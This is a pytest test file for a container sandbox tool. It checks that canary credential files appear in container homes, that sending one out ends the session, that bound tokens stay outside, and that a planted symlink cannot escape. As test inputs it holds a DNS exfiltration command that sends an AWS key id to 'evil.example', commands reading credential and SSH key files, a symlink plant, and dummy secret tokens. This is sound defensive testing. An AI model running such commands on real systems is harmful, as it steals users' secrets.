"""Secrets stay out of containers, and canaries lie in every home that one can have: thrown away, an image's, kept."""

from __future__ import annotations

import subprocess
from typing import TYPE_CHECKING, Any

import pytest

from tests import busybox, podman
from tests.capabilities import needs
from tests.conftest import PATIENCE_S
from tests.gateway.secure import serving

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from tests.conftest import Person
    from tests.gateway.secure import Service

pytestmark = needs("podman", "busybox", "git")

SECRET = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
ALARMED = 126
ROOTS = {"machine": ("--image", "none"), "image": ("--image", busybox.IMAGE), "dev container": ()}
CANARIES = '[workspace]\ncanaries = ["aws", "ssh", "env"]\n'
BUNDLED = "localhost/paddock-test-bundled:1"  # with authorities where Fedora has them
BOUNDED = '[network]\nmode = "allow"\nallow = [{ host = "api.example.test", methods = ["GET"] }]\n'
BINDING = """\
[network]
mode = "allow"
[credentials.github]
source = "env:GITHUB_TOKEN"
hosts = ["host:{port}"]
"""


@pytest.fixture(params=ROOTS)
def run(request: pytest.FixtureRequest, ann: Person, project: Callable[..., Path]) -> Iterator[Callable[..., object]]:
    """A shell in one kind of root, in one repository."""
    place = project({"paddock.toml": CANARIES}, remoteUser="ann")

    def call(script: str, *words: str, **environ: Any) -> subprocess.CompletedProcess[str]:
        before = ("run", "--boundary", "podman", *ROOTS[request.param], *words)
        return ann.call(*before, "--", "sh", "-c", script, cwd=place, **environ)

    yield call
    ann.call("devcontainer", "rm", cwd=place)


def test_canaries_are_the_persons_own_files(run: Callable[..., subprocess.CompletedProcess[str]]) -> None:
    for _ in range(2):  # in a home that stays their places are there already
        done = run(
            "cat ~/.aws/credentials ~/.env; head -n 1 ~/.ssh/id_ed25519; stat -c %a ~/.ssh/id_ed25519; ls ~/.aws",
            "--allow", "example.test",
        )  # fmt: skip
        assert "aws_access_key_id = AKIA" in done.stdout, done.stderr
        assert "STRIPE_SECRET_KEY=sk_live_" in done.stdout
        assert done.stdout.endswith("-----BEGIN OPENSSH PRIVATE KEY-----\n600\ncredentials\n")


def test_sending_one_out_ends_the_session(run: Callable[..., subprocess.CompletedProcess[str]]) -> None:
    thief = "busybox nslookup $(sed -n 's/.*key_id = //p' ~/.aws/credentials).evil.example"
    done = run(f"{thief}; sleep 100; echo went on", "--allow", "example.test")
    assert done.returncode == ALARMED, done.stderr
    assert "went on" not in done.stdout
    assert "canary" in done.stderr


def test_a_bound_secret_stays_outside(ann: Person, run: Callable[..., subprocess.CompletedProcess[str]]) -> None:
    policy = ann.home / ".config/paddock/policy.toml"
    before = policy.read_text()
    script = (
        'echo "$GITHUB_TOKEN"; busybox wget -q -O - --header "Authorization: Bearer $GITHUB_TOKEN" http://host:PORT/'
    )
    with serving(None) as service:
        policy.write_text(before + BINDING.format(port=service.port))
        try:
            done = run(script.replace("PORT", str(service.port)), GITHUB_TOKEN=SECRET)
        finally:
            policy.write_text(before)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("ghp_")
    assert SECRET not in done.stdout + done.stderr
    assert shown(service) == [f"Bearer {SECRET}"]


def shown(service: Service) -> list[str]:
    return [dict(headers).get("Authorization", "") for _, headers, _ in service.seen]


def test_a_link_in_a_home_that_stays_leads_nowhere_outside(
    ann: Person, project: Callable[..., Path], tmp_path: Path
) -> None:
    place = project({"paddock.toml": CANARIES}, remoteUser="ann")
    (tmp_path / "outside").mkdir()
    plant = f"ln -s {tmp_path}/outside ~/.aws"
    try:
        assert ann.call("run", "--boundary", "podman", "--", "sh", "-c", plant, cwd=place).returncode == 0
        done = ann.call("run", "--boundary", "podman", "--allow", "example.test", "--", "true", cwd=place)
        assert done.returncode == 126
        assert "~/.aws/credentials of this dev container cannot be mounted on" in done.stderr
        assert not list((tmp_path / "outside").iterdir())
    finally:
        assert ann.call("devcontainer", "rm", cwd=place).returncode == 0
    assert podman.containers(ann) == []


def test_an_image_trusts_the_gateway_wherever_its_authorities_are(
    ann: Person, project: Callable[..., Path], tmp_path: Path
) -> None:
    place, made = project({"paddock.toml": BOUNDED}), tmp_path / "image"
    made.mkdir()
    (made / "bundle").write_text("# of the image\n")
    (made / "Containerfile").write_text(f"FROM {busybox.IMAGE}\nCOPY bundle /etc/pki/tls/certs/ca-bundle.crt\n")
    build = ("podman", "build", "--quiet", "--tag", BUNDLED, str(made))
    subprocess.run(build, env=ann.environ, check=True, capture_output=True, timeout=PATIENCE_S)
    assert ann.call("trust", "--yes", cwd=place).returncode == 0
    script = "cmp $SSL_CERT_FILE /etc/pki/tls/certs/ca-bundle.crt && grep -c BEGIN $NODE_EXTRA_CA_CERTS; ls /etc/ssl"
    done = ann.call("run", "--boundary", "podman", "--image", BUNDLED, "--", "sh", "-c", script, cwd=place)
    assert done.stdout.split()[:1] == ["1"], done.stdout + done.stderr
    assert "No such file" in done.stderr, "nothing is made in an image"
